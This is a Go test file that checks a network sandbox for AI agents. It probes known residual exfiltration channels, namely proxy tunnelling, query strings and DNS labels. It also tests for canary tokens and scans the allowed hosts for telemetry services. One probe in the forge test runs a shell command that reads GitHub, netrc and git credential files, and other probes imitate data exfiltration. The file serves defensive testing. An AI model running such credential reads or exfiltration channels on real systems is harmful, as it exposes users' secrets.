package netattack

import (
	"context"
	"os"
	"slices"
	"strings"
	"testing"

	"ringfence.dev/ringfence/internal/journal"
	"ringfence.dev/ringfence/internal/policy"
	"ringfence.dev/ringfence/internal/policy/agent"
	"ringfence.dev/ringfence/test/netattack/probe"
	"ringfence.dev/ringfence/test/wait"
	"ringfence.dev/ringfence/test/world"
)

// residuals are open by decision. What is asserted of them is that they are recorded,
// and that docs/threat-model.md tells everybody.
func residuals(t *testing.T, sum *summary) {
	w := begin(t)
	const label = "63616e617279.u.wild.test"
	within := talk("allowed.test:443", 4, "origin ", probe.Step{TLS: "allowed.test"}, probe.Say(get("denied.test")))
	within.ID = "PX-049"
	query := talk("allowed.test:80", 4, "origin ", probe.Say("GET /63616e617279?x=63616e617279 HTTP/1.1\r\nHost: allowed.test\r\nUser-Agent: 63616e617279\r\nConnection: close\r\n\r\n"))
	query.ID = "EX-005"
	names := talk(label+":80", 4, "origin ", probe.Say(get(label)))
	names.ID = "DN-003"
	got, r := try(t, w, base, []probe.Probe{within, query, names})
	s := look(w)
	s.records = r.Journal
	for id, want := range map[string]string{"PX-049": "tcp allowed.test:443", "EX-005": "tcp allowed.test:80", "DN-003": "tcp " + label + ":80"} {
		sum.add(&row{id: id})
		if !got[id].Done {
			t.Errorf("%s is closed: take it off the residuals: %s", id, show(got[id]))
		}
		if !s.has("allow", want) {
			t.Errorf("%s: the journal has no record of %q", id, want)
		}
	}
	if !s.asked(label) {
		t.Errorf("DN-003: the resolver was not asked")
	}
	page, err := os.ReadFile("../../docs/threat-model.md")
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range ids {
		if n.verdict == residual && !strings.Contains(string(page), n.id) {
			t.Errorf("docs/threat-model.md does not speak of %s: %s", n.id, n.about)
		}
	}
}

// forge (EX-003): no credential of the host's is there to write to a forge with, and
// nobody else's gets there: a forge is the broker's, with or without a login.
func forge(t *testing.T, sum *summary) {
	sum.add(&row{id: "EX-003"})
	w := begin(t)
	post := talk("api.github.com:443", 4, "origin ", probe.Step{TLS: "api.github.com"}, probe.Say("POST /gists HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: token STRANGER\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}"))
	post.ID = "post"
	list := []probe.Probe{post, {ID: "token", Command: []string{"sh", "-c", `env | grep -q CANARY || cat ~/.config/gh/hosts.yml ~/.netrc ~/.git-credentials 2>/dev/null | grep -q CANARY`}}}
	ctx, cancel := context.WithTimeout(context.Background(), wait.Patience)
	defer cancel()
	cmd := w.Command(ctx, append([]string{"run", "--"}, ask(t, w, list, inside4, inside6)...)...)
	cmd.Env = append(cmd.Env, "GH_TOKEN=CANARY", "GITHUB_TOKEN=CANARY", "GH_ENTERPRISE_TOKEN=CANARY", "GITLAB_TOKEN=CANARY")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	got := answers(t, w, world.Result{})
	if got["token"].Done {
		t.Error("a token of the host's is inside")
	}
	if got["post"].Done || !strings.Contains(string(got["post"].Got), "HTTP/1.1 403 ") {
		t.Errorf("a forge takes a stranger's token: %s", show(got["post"]))
	}
	if !slices.ContainsFunc(w.Journal(), func(j journal.Record) bool {
		return j.Kind == journal.Broker && j.Name == "api.github.com" && j.Method == "POST" && j.Verdict == journal.Deny
	}) {
		t.Error("the journal has no record of it")
	}
}

// telemetryHosts (EX-007): nothing that is open unless somebody opens it counts users
// or takes their crashes.
func telemetryHosts(t *testing.T, sum *summary) {
	sum.add(&row{id: "EX-007"})
	var hosts []string
	for _, g := range policy.Groups() {
		if !g.Deny {
			hosts = append(hosts, g.Hosts...)
		}
	}
	agents, err := agent.Names("")
	if err != nil {
		t.Fatal(err)
	}
	for _, name := range agents {
		p, err := agent.Load(name, "")
		if err != nil {
			t.Fatal(err)
		}
		hosts = append(hosts, p.Network.Hosts...)
	}
	if len(hosts) < 50 || len(agents) < 4 {
		t.Fatalf("only %d hosts, %d agents", len(hosts), len(agents))
	}
	for _, h := range hosts {
		for _, word := range []string{"sentry", "statsig", "datadog", "segment", "amplitude", "launchdarkly", "mixpanel", "posthog", "telemetry", "analytics", "bugsnag", "honeycomb", "newrelic", "metrics", "collector"} {
			if strings.Contains(h, word) {
				t.Errorf("%s is open without anybody's asking", h)
			}
		}
	}
	for _, bad := range slices.Concat(telemetry, tunnels, drops, doh) {
		if slices.Contains(hosts, bad) {
			t.Errorf("%s is open without anybody's asking", bad)
		}
	}
}
